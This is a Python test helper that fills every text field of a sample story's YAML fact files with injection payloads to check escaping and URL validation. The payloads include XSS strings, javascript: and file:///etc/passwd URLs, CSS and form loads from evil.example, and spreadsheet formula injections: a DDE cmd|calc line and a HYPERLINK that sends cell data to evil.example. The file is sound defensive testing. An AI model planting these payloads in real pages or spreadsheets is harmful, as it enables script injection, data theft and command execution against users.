"""Injection payloads, and a copy of the second story with one in every text field of every fact.

Threat (SECURITY.md): facts of a stranger or a hostile source that are markup, script or a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from functools import cache
from itertools import count as counter
from pathlib import Path
from typing import Any, Final, Literal, get_args, get_origin

import yaml
from factbook.kinds import FILE_PATTERNS as KNOWN_HOMES
from factbook.kinds import KINDS, FilePattern, Organisation, Person, ProseMark, Record, RefTo, Word, vocabulary_fields
from factbook.kinds.base import Url
from factbook.normalize import normalize
from factbook.prose import find_unbound
from pydantic.fields import FieldInfo

PAYLOADS = (
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<svg/onload=hacked()>",
    '"><svg onload=hacked()>',
    "'><svg onload=hacked()>",
    "' autofocus onfocus='hacked()' x='",
    '" autofocus onfocus="hacked()" x="',
    "</title><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "</script><script>hacked()</script>",
    "</style><script>hacked()</script>",
    "]]></svg><script>hacked()</script>",
    "--><script>hacked()</script><!--",
    "<!--block--><script>hacked()</script><!--/block-->",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hacked()&amp;gt;",
    "[press](javascript:hacked())",
    "![x](x 'y' onerror=hacked())",
    "<javascript:hacked()> <https://evil.example/>",
    "<a href='javascript:hacked()'>press</a>",
    "<a href='java&#x09;script:hacked()'>press</a>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * {background: url(//evil.example/x)}</style>",
    "x; background: url(https://evil.example/x); y",
    "<base href=//evil.example/><meta http-equiv=refresh content='1; url=//evil.example'>",
    "<object data=//evil.example/x><embed src=//evil.example/y>",
    "<form action=//evil.example><button formaction=javascript:hacked()>press</button></form>",
    "＜script＞hacked()＜/script＞ ‹script› ʺ onload=hacked()",
    "<\u017fcript>hacked()</\u017fcript> <scr\u0131pt>hacked()</scr\u0131pt>",
    "\\x3cscript\\x3ehacked()\\x3c/script\\x3e \\u003cscript>",
    "`${hacked()}` \\';hacked()//",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style></mglyph></table></mtext></math>",
    "=HYPERLINK('https://evil.example?'&A,'press')",
    "+cmd|' /C calc'!A",
    "-cmd|' /C calc'!A",
    "@SUM(A:A)",
    "=cmd|'/c calc'!A",
)
PROSE = tuple(payload for payload in PAYLOADS if not re.search(r"[0-9{}]", payload))
"""The payloads that prose may hold: without digits and braces."""
SCHEMES = (
    "javascript:hacked()",
    "JavaScript:hacked()",
    " javascript:hacked()",
    "java\tscript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "vbscript:hacked()",
    "file:///etc/passwd",
    "//evil.example/x",
    "/x",
    "x",
    "blob:https://example.org/x",
    "https:javascript:hacked()",
    "https://",
    "ftp://example.org/",
    "https://exa mple.org/",
    "https://example.org/\u202egnp.x",
    "http:/\\evil.example",
    "https://example.org/?x=<script>hacked()</script>",
    'https://example.org/" onclick="hacked()',
    "\x01javascript:hacked()",
)
"""Hostile or invalid URLs, which must be refused."""
ADDRESS = "https://example.org/?q='%22%3E&x=%3Cscript%3Ehacked()&lt;x&gt;"
"""A valid URL that would be markup if it were printed without escaping."""
LENGTHS = {"text": 290, "prose": 1100}
"""Maximum length of a payload, below that of the field."""
NAMES = {("Correction", "field"), ("Series", "key"), ("SeriesRow", "cells")}
"""Text fields that hold names from a fixed list, so that a payload is refused, as are words of vocabularies; or cells of a table."""

PARTIES: Final = (Organisation, Person)
"""The kinds whose names are known in the texts of all facts."""


def texts_of(cls: type[Record]) -> dict[str, str]:
    """Return the text fields of a record by their names in the file: ``text``, ``prose`` or ``address``."""
    found = {}
    fixed = {*vocabulary_fields(cls), *(name for owner, name in NAMES if owner == cls.__name__), "id"}
    for name, field in cls.model_fields.items():
        if name not in fixed and (sort := _sort(field)):
            found[field.alias or name] = sort
    return found


def _sort(field: FieldInfo) -> str:
    parts = list(_parts(field.annotation)) + list(field.metadata)
    if any(isinstance(part, RefTo) for part in parts) or str not in parts:
        return ""
    if get_args(Url)[1] in parts:
        return "address"
    if any(type(part).__name__ == "FieldInfo" and part.metadata for part in parts) or any(
        hasattr(part, "pattern") or "pattern" in (getattr(part, "json_schema_extra", None) or ()) for part in parts
    ):
        return ""  # of a pattern that no payload fits: an id, a language, a word, a colour
    return "prose" if any(isinstance(part, ProseMark) for part in parts) else "text"


def _parts(annotation: Any) -> Iterator[Any]:
    yield annotation
    yield from getattr(annotation, "__metadata__", ())
    if get_origin(annotation) is not Literal:
        for each in get_args(annotation):
            yield from _parts(each)


def inner(cls: type[Record], name: str) -> type[Record] | None:
    """Return the class of the records in a field, if it holds any."""
    field = next((field for key, field in cls.model_fields.items() if name in (key, field.alias)), None)
    return (
        next((part for part in _parts(field.annotation) if isinstance(part, type) and issubclass(part, Record)), None)
        if field
        else None
    )


@cache
def records() -> tuple[type[Record], ...]:
    """Return the classes of all records in fact files: the kinds, and the records inside them."""
    found: list[type[Record]] = list(KINDS.values())
    for cls in found:
        for name, field in cls.model_fields.items():
            if (child := inner(cls, field.alias or name)) and child not in found:
                found.append(child)
    return tuple(found)


class Poison:
    """Fills text fields with the payloads in turn, so that each field gets many of them over the story.

    As many of the texts ``more`` as there is room for are appended. Facts that use a word of the story's own use it as it was
    poisoned, if the words come first.
    """

    def __init__(self, more: Iterable[str] = ()) -> None:
        self.numbers = counter()
        self.placed: set[tuple[str, str]] = set()
        self.renamed: dict[str, str] = {}
        self.more = list(more)
        self.given = 0

    def fill(self, cls: type[Record], item: dict[str, Any]) -> None:
        """Fill every text field of a fact and of its inner records, fields that are not set too."""
        name_before = str(item.get("name"))
        for name, sort in texts_of(cls).items():
            field = next(field for key, field in cls.model_fields.items() if name in (key, field.alias))
            number = next(self.numbers)
            several = {"address": (f"{ADDRESS}&n={number}",), "prose": PROSE, "text": PAYLOADS}[sort]
            if name == "wording":  # gives the amount, so that other numbers are refused
                several = PROSE
            payload = several[number % len(several)]
            if cls in PARTIES and sort == "text":  # a text that two are called says neither
                payload = f"{payload} {item['id']}"
            if name == "at":
                payload = payload[:79]
            elif sort != "address" and name != "wording":  # of a few words
                payload = self.with_more(payload, sort)
            item[name] = [*item.get(name, []), payload] if str(field.annotation).startswith("tuple") else payload
            self.placed.add((cls.__name__, name))
        if cls is Word:
            self.renamed[name_before] = item["name"]
        for name in vocabulary_fields(cls):
            item[name] = self.renamed.get(item[name], item[name])
        for name, value in item.items():
            if child := inner(cls, name):
                for each in value if isinstance(value, list) else [value]:
                    self.fill(child, each)

    def with_more(self, payload: str, sort: str) -> str:
        """Append those of the other texts that fit the field."""
        fitting = (
            each
            for each in self.more
            if sort == "text" or not (re.search(r"[0-9{}]", each) or list(find_unbound(normalize(each))))
        )
        for text in fitting:
            if len(payload) + len(text) + 1 > LENGTHS[sort]:
                break
            payload = f"{payload} {text}"
            self.more.remove(text)
            self.given += 1
        return payload


def poison(story: Path, more: Iterable[str] = ()) -> set[tuple[str, str]]:
    """Fill every text field of the facts below ``story`` with payloads; return the fields as (class, field)."""
    poison = Poison(more)
    for kind, home in sorted(KNOWN_HOMES.items(), key=lambda each: KINDS[each[0]] is not Word):
        for path in sorted((story / "data").glob(_glob(home))):
            facts = yaml.load(path.read_text(encoding="utf-8"), yaml.BaseLoader)  # all texts stay texts
            for fact in [facts] if home.single else facts:
                poison.fill(KINDS[kind], fact)
            path.write_text(yaml.safe_dump(facts, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8")
    return poison.placed


def _glob(home: FilePattern) -> str:
    return re.sub(r"\{id\}", "*", home.pattern)
